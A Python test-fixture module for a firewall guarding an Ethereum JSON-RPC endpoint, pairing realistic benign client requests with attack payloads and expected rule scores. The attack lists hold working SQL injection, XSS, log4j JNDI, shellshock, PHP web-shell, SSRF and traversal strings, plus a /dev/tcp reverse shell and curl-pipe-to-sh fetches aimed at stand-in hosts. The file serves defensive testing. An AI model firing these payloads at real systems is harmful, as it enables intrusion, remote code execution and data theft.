"""Requests for the WAF's content tests: benign JSON-RPC traffic as real clients send it, and attacks, as data."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from urllib.parse import quote

from edgeplane.rules import RequestFields

WEB3_PY = b"Web3.py/7.6.0/web3.providers.rpc.rpc.HTTPProvider"
ETHERS = b"ethers/6.13.4"
BROWSER = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
# web3.py's real default User-Agent: a Python class repr, with angle brackets and quotes.
WEB3_PY_REPR = b"web3.py/7.5.0/<class 'web3.providers.rpc.rpc.HTTPProvider'>"
CHROME_WINDOWS = (
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)
SAFARI_IPHONE = (
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    b"Version/17.5 Mobile/15E148 Safari/604.1"
)
ANDROID_WEBVIEW = (
    b"Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UQ1A.240205.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    b"Version/4.0 Chrome/126.0.6478.71 Mobile Safari/537.36"
)
FIREFOX = b"Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0"
JWT = (
    b"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ"
    b".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
# What a browser wallet's fetch sends besides the basics: client hints with quotes and semicolons, q-values.
BROWSER_EXTRAS: tuple[tuple[bytes, bytes], ...] = (
    (b"sec-ch-ua", b'"Chromium";v="126", "Google Chrome";v="126", "Not-A.Brand";v="99"'),
    (b"sec-ch-ua-mobile", b"?0"),
    (b"sec-ch-ua-platform", b'"Windows"'),
    (b"accept-language", b"en-US,en;q=0.9,fr-FR;q=0.8,fr;q=0.7"),
    (b"origin", b"https://app.example.com"),
    (b"referer", b"https://app.example.com/swap?inputCurrency=ETH&outputCurrency=0xa0b8&exactAmount=1.5"),
    (b"sec-fetch-site", b"cross-site"),
    (b"sec-fetch-mode", b"cors"),
    (b"sec-fetch-dest", b"empty"),
    (b"priority", b"u=1, i"),
    (b"cache-control", b"no-cache"),
    (b"pragma", b"no-cache"),
)
ADDRESS = "0xd8da6bf26964af9d7eed9e03e53415d37aa96045"
TOPIC = "0xddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef"


@dataclass(frozen=True)
class Sample:
    """One request: what a client sends to ``POST /v1/mainnet``."""

    name: str
    body: bytes = b'{"jsonrpc":"2.0","id":1,"method":"eth_blockNumber","params":[]}'
    query: str = ""
    raw_path: str = "/v1/mainnet"
    user_agent: bytes = WEB3_PY
    headers: tuple[tuple[bytes, bytes], ...] = field(default=())
    method: str = "POST"

    def fields(self) -> RequestFields:
        """The request as the firewall sees it: a client's usual headers, then the sample's own (which replace
        the usual ones of the same name)."""
        usual = [
            (b"host", b"rpc.example.com"),
            (b"user-agent", self.user_agent),
            (b"content-type", b"application/json"),
            (b"accept", b"*/*"),
            (b"accept-encoding", b"gzip, deflate"),
            (b"content-length", str(len(self.body)).encode()),
        ]
        replaced = {name for name, _ in self.headers}
        headers = [*(header for header in usual if header[0] not in replaced), *self.headers]
        return RequestFields.from_http(
            method=self.method,
            scheme="https",
            host="rpc.example.com",
            raw_path=self.raw_path,
            query=self.query,
            headers=headers,
            body=self.body,
            client_ip="203.0.113.7",
            client_port=50123,
            server_port=443,
        )


def rpc(method: str, params: object, request_id: object = 1) -> bytes:
    """A JSON-RPC request body as clients encode it."""
    return json.dumps({"jsonrpc": "2.0", "method": method, "params": params, "id": request_id}).encode()


BENIGN: tuple[Sample, ...] = (
    Sample("eth_blockNumber"),
    Sample("eth_chainId ethers", rpc("eth_chainId", []), user_agent=ETHERS),
    Sample("eth_getBalance", rpc("eth_getBalance", [ADDRESS, "latest"])),
    Sample(
        "eth_call balanceOf",
        rpc(
            "eth_call",
            [
                {"to": "0xa0b86991c6218b36c1d19d4a2e9eb0ce3606eb48", "data": "0x70a08231" + "0" * 24 + ADDRESS[2:]},
                "latest",
            ],
        ),
    ),
    Sample(
        "eth_getLogs",
        rpc(
            "eth_getLogs",
            [{"fromBlock": "0x1312d00", "toBlock": "0x1312d64", "address": ADDRESS, "topics": [TOPIC, None]}],
        ),
    ),
    Sample(
        "batch",
        json.dumps([json.loads(rpc("eth_chainId", [], 1)), json.loads(rpc("eth_gasPrice", [], 2))]).encode(),
        user_agent=ETHERS,
    ),
    Sample(
        "eth_sendRawTransaction",
        rpc(
            "eth_sendRawTransaction",
            ["0x02f8b20181c9843b9aca0085174876e80083030d4094" + "ab" * 20 + "80b844a9059cbb" + "00" * 60],
        ),
    ),
    Sample("eth_getTransactionReceipt", rpc("eth_getTransactionReceipt", ["0x" + "5c" * 32])),
    Sample("eth_feeHistory", rpc("eth_feeHistory", ["0x4", "latest", [25, 75]])),
    Sample(
        "eth_estimateGas",
        rpc("eth_estimateGas", [{"from": ADDRESS, "to": "0x" + "11" * 20, "value": "0xde0b6b3a7640000", "data": "0x"}]),
    ),
    Sample(
        "trace_filter",
        rpc(
            "trace_filter",
            [{"fromBlock": "0x10", "toBlock": "latest", "fromAddress": [ADDRESS], "after": 0, "count": 10}],
        ),
    ),
    Sample(
        "net_version browser",
        rpc("net_version", [], "a1b2"),
        user_agent=BROWSER,
        headers=((b"origin", b"https://app.uniswap.org"), (b"referer", b"https://app.uniswap.org/swap?chain=mainnet")),
    ),
    Sample("web3_clientVersion with an api key", rpc("web3_clientVersion", []), query="apikey=3f9c2a7be1d04c3b"),
    Sample("eth_getBlockByNumber", rpc("eth_getBlockByNumber", ["0x1312d00", False])),
    Sample("eth_getStorageAt", rpc("eth_getStorageAt", [ADDRESS, "0x0", "pending"])),
    Sample("eth_getCode with a block hash", rpc("eth_getCode", [ADDRESS, {"blockHash": "0x" + "9f" * 32}])),
    Sample("web3.py's class-repr user agent", rpc("eth_chainId", []), user_agent=WEB3_PY_REPR),
    Sample(
        "Chrome wallet with client hints", rpc("eth_accounts", []), user_agent=CHROME_WINDOWS, headers=BROWSER_EXTRAS
    ),
    Sample("Safari on iPhone", rpc("eth_gasPrice", []), user_agent=SAFARI_IPHONE, headers=BROWSER_EXTRAS[3:6]),
    Sample("Android webview", rpc("eth_blockNumber", []), user_agent=ANDROID_WEBVIEW, headers=BROWSER_EXTRAS),
    Sample(
        "cookies with base64 and a bearer token",
        rpc("eth_getBalance", [ADDRESS, "latest"]),
        user_agent=FIREFOX,
        headers=(
            (
                b"cookie",
                b"session=eyJ1c2VyIjoiYWxpY2UiLCJyb2xlIjoidXNlciJ9; _ga=GA1.1.1234567890.1718000000; "
                b"theme=dark; csrftoken=Zm9vYmFyK2Jhei9xdXg9PQ==; consent=%7B%22ads%22%3Afalse%7D",
            ),
            (b"authorization", b"Bearer " + JWT),
            (b"content-type", b"application/json; charset=utf-8"),
        ),
    ),
    Sample(
        "proxied request",
        rpc("net_version", []),
        headers=(
            (b"x-forwarded-for", b"198.51.100.23, 10.0.0.7"),
            (b"x-forwarded-proto", b"https"),
            (b"forwarded", b'for=198.51.100.23;proto=https;by="[2001:db8::17]"'),
            (b"via", b"1.1 vegur, 1.1 varnish (Varnish/7.4)"),
            (b"x-request-id", b"5f0c2a9e-3b1d-4c8e-9a7f-2d6b1e0c4f3a"),
            (b"if-none-match", b'W/"5e15153d-120f"'),
            (b"x-api-version", b"2024-06-01"),
        ),
    ),
    Sample("curl", rpc("eth_blockNumber", []), user_agent=b"curl/8.5.0"),
    Sample("python-requests", rpc("eth_blockNumber", []), user_agent=b"python-requests/2.32.3"),
    Sample("viem with node fetch", rpc("eth_getBlockByNumber", ["latest", True]), user_agent=b"node"),
    Sample(
        "eth_signTypedData_v4",
        rpc(
            "eth_signTypedData_v4",
            [
                ADDRESS,
                json.dumps(
                    {
                        "types": {"EIP712Domain": [{"name": "name", "type": "string"}]},
                        "primaryType": "Mail",
                        "domain": {"name": "Ether Mail", "version": "1", "chainId": 1},
                        "message": {"contents": "Hello, Bob! See you at 10:30 (UTC), ok?"},
                    }
                ),
            ],
        ),
        user_agent=CHROME_WINDOWS,
    ),
)


@dataclass(frozen=True)
class Attack:
    """An attack request and whether the Core Ruleset alone at PL1 (CRS 3.3.4 at its own threshold, 5) is expected
    to see it. CRS 3.3.4 has no rule for log4j lookups, prototype pollution, template injection or Spring's class
    loader at PL1: those are the Managed Ruleset's (``core=False``)."""

    sample: Sample
    core: bool = True


def _params(method: str, payload: str) -> bytes:
    return rpc(method, [payload, "latest"])


ATTACKS: tuple[Attack, ...] = (
    Attack(Sample("sqli union in the query", query="id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--")),
    Attack(Sample("sqli tautology in params", _params("eth_getBalance", "' OR '1'='1"))),
    Attack(Sample("sqli time-based in params", _params("eth_call", "1 AND SLEEP(5)"))),
    Attack(Sample("sqli stacked in params", _params("eth_getCode", "1; DROP TABLE users"))),
    Attack(
        Sample("sqli schema probe in the query", query="q=1+and+1=(select+count(*)+from+information_schema.tables)")
    ),
    Attack(Sample("xss script in params", _params("eth_call", "<script>alert(document.cookie)</script>"))),
    Attack(Sample("xss handler in the query", query="name=%3Cimg%20src=x%20onerror=alert(1)%3E")),
    Attack(Sample("traversal in params", _params("eth_getCode", "../../../../etc/passwd"))),
    Attack(Sample("traversal in the query", query="file=..%2f..%2f..%2fetc%2fshadow")),
    Attack(Sample("log4j in the user agent", user_agent=b"${jndi:ldap://198.51.100.9:1389/a}"), core=False),
    Attack(Sample("log4j obfuscated in params", _params("eth_call", "${${lower:j}ndi:${lower:l}dap://x.example/a}"))),
    Attack(Sample("log4j in the referer", headers=((b"referer", b"${jndi:dns://x.example/}"),)), core=False),
    Attack(Sample("log4j in any header", headers=((b"x-api-version", b"${jndi:ldap://x.example/a}"),)), core=False),
    Attack(
        Sample(
            "log4j JSON-escaped in params",
            b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":["\\u0024\\u007bjndi:ldap://x/a}"]}',
        ),
        core=False,
    ),
    Attack(Sample("command injection in params", _params("eth_call", "0x1; cat /etc/passwd"))),
    Attack(Sample("command substitution in the query", query="host=$(curl%20http://198.51.100.9/x.sh%20|%20sh)")),
    Attack(Sample("reverse shell in params", _params("eth_call", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"))),
    Attack(Sample("ssrf metadata in params", _params("eth_call", "http://169.254.169.254/latest/meta-data/iam/"))),
    Attack(Sample("scanner sqlmap", user_agent=b"sqlmap/1.7.2#stable (https://sqlmap.org)")),
    Attack(
        Sample(
            "scanner nuclei",
            user_agent=b"Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
        )
    ),
    Attack(Sample("shellshock in the user agent", user_agent=b"() { :; }; /bin/bash -c 'id'")),
    Attack(
        Sample(
            "prototype pollution",
            b'{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"__proto__":{"admin":true}}]}',
        ),
        core=False,
    ),
    Attack(
        Sample("method name injection", b'{"jsonrpc":"2.0","id":1,"method":"eth_call;rm -rf /","params":[]}'),
        core=False,
    ),
    Attack(Sample("php in params", _params("eth_call", "<?php system($_GET['c']); ?>"))),
    Attack(Sample("template injection in the query", query="name={{7*7}}"), core=False),
    Attack(
        Sample(
            "java class loader in the query",
            query="class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        ),
        core=False,
    ),
)


# More clients' User-Agents: bots, SDKs and wallets, with parentheses, semicolons, plus signs and URLs.
USER_AGENTS: tuple[bytes, ...] = (
    b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    b"Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
    b"Dalvik/2.1.0 (Linux; U; Android 11; SM-A515F Build/RP1A.200720.012)",
    b"Mozilla/5.0 (Linux; Android 12; Pixel 6 Build/SQ3A.220705.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    b"Version/4.0 Chrome/103.0.5060.129 Mobile Safari/537.36 MetaMaskMobile",
    b"Apache-HttpClient/4.5.14 (Java/17.0.9)",
    b"Web3j/4.10.0 OkHttp/4.9.0",
    b"Foundry/cast 0.2.0 (+https://book.getfoundry.sh)",
    b"Rainbow/1.9.1 (iPhone; iOS 17.5; Scale/3.00)",
)
# Request headers of browsers, proxies and SDKs that look busy to a signature: base64 padding before "; ",
# runs of dashes, JSON in a cookie, Link-style angle brackets. (A JSON-RPC request is JSON: its content type says so.)
BUSY_HEADERS: tuple[tuple[bytes, bytes], ...] = (
    (b"accept", b"application/json, text/plain, */*"),
    (b"content-type", b"application/json; charset=UTF-8"),
    (b"x-request-id", b"----WebKitFormBoundary7MA4YWxkTrZu0gW"),
    (b"x-forwarded-for", b"2001:db8::1, 198.51.100.7"),
    (b"cookie", b'__cf_bm=Yk5Gq2b.3x_9ZkqK0.rT-1718000000-1.0.1.1-abcDEF; wagmi.store={"state":{"current":null}}'),
    (b"cookie", b"PHPSESSID=5k3j2h1g; tz=Europe%2FParis; last_seen=2024-06-01T10%3A30%3A00Z; cart=%5B1%2C2%2C3%5D"),
    (b"authorization", b"Basic dXNlcjpwYXNzd29yZA=="),
    (b"x-api-key", b"sk_live_51H8xYzAbCdEf-_+/="),
    (b"baggage", b"sentry-environment=production,sentry-release=1.2.3,sentry-trace_id=0123456789abcdef"),
    (b"traceparent", b"00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
    (b"link", b"</style.css>; rel=preload; as=style"),
)
BENIGN = BENIGN + tuple(
    Sample(f"client {agent[:24].decode()}", rpc("eth_blockNumber", []), user_agent=agent, headers=BUSY_HEADERS)
    for agent in USER_AGENTS
)

# Where a scored attack's payload goes (as bench/waf_requests.py places it): the query string, a string in a JSON-RPC
# call's parameters, or a header (the User-Agent and X-Api-Version as sent, Referer and Cookie URL-encoded).
PLACES = ("query", "rpc-param", "user-agent", "referer", "cookie", "x-api-version")


def placed(payload: str, place: str) -> Sample:
    """A request carrying ``payload`` at ``place`` (one of ``PLACES``), otherwise benign."""
    name = f"{place}: {payload}"
    if place == "query":
        return Sample(name, query="id=" + quote(payload, safe=""), method="GET")
    if place == "rpc-param":
        return Sample(name, rpc("eth_call", [{"to": ADDRESS, "data": payload}, "latest"]))
    if place == "user-agent":
        return Sample(name, user_agent=payload.encode())
    if place == "referer":
        return Sample(name, headers=((b"referer", b"https://app.example.com/?q=" + quote(payload, safe="").encode()),))
    if place == "cookie":
        return Sample(name, headers=((b"cookie", b"session=" + quote(payload, safe="").encode()),))
    return Sample(name, headers=((place.encode(), payload.encode()),))


# One typical vector per attack family: at PL1 the Core Ruleset alone scores each at least 40 (the default, medium
# threshold) in the query string and in a JSON-RPC parameter, and at least 25 (high) in any header.
TYPICAL: tuple[tuple[str, str], ...] = (
    ("sqli tautology", "' or 1=1--"),
    ("sqli union", "1' union select username,password from users--"),
    ("xss script", "<script>alert(1)</script>"),
    ("xss handler", "<img src=x onerror=alert(1)>"),
    ("traversal", "../../etc/passwd"),
    ("command injection", "; cat /etc/passwd"),
    ("log4j", "${jndi:ldap://x.example/a}"),
    ("log4j obfuscated", "${${lower:j}ndi:${lower:l}dap://x.example/a}"),
)

# Vectors that combine several techniques: they reach 60 (low threshold) at PL1.
BLATANT: tuple[tuple[str, str], ...] = (
    ("sqli tautology and union", "1' or 1=1 union select null,version()--"),
    ("xss breakout, script and handler", "'><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"),
)

# Weaker single vectors: PL1 still scores them at least this much (the Managed Ruleset blocks them all).
PARTIAL: tuple[tuple[str, str, int], ...] = (
    ("sqli numeric union", "-1 union select 1,2,3--", 25),
    ("sqli time-based", "1 AND SLEEP(5)", 20),
    ("sqli stacked", "1; DROP TABLE users", 15),
    ("command substitution", "$(curl http://x.example/x.sh | sh)", 25),
    ("reverse shell", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1", 25),
    ("php", "<?php system($_GET['c']); ?>", 25),
)
